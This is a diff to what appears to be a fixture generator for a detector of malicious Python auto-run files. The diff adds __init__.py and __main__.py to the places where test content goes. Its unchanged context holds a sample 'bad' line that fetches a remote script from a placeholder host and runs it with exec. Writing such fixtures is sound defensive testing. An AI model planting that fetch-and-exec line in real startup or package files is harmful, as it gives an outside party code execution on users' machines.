@@ -189,6 +189,7 @@ PY = "import os\n\n%s\n\n\ndef home():\n    return os.path.expanduser('~')\n"
 PY_BAD = "import urllib.request\nexec(urllib.request.urlopen('https://%s/a.py').read())" % HOST
 for place, path in (("sitecustomize.py", "lib/python3/sitecustomize.py"),
                     ("usercustomize.py", "lib/python3/usercustomize.py"),
+                    ("**/__init__.py", "thing/__init__.py"), ("**/__main__.py", "thing/__main__.py"),
                     ("conftest.py", "tests/conftest.py")):
     lines(place, path, PY, "", PY_BAD, "import sys\nsys.dont_write_bytecode = True")
 lines("*.pth", "lib/python3/site-packages/thing.pth", "./thing\n%s\n", "",
